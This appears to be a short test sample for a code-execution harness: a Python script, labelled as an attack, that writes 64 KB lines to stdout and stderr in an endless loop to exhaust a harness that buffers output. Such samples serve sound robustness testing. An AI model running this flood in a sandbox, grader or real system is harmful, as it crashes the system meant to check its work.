# Attack: flood stdout and stderr (a harness that buffers all output runs out of memory).
import os
import sys

line = "x" * 65536
while True:
    sys.stdout.write(line)
    os.write(2, line.encode())
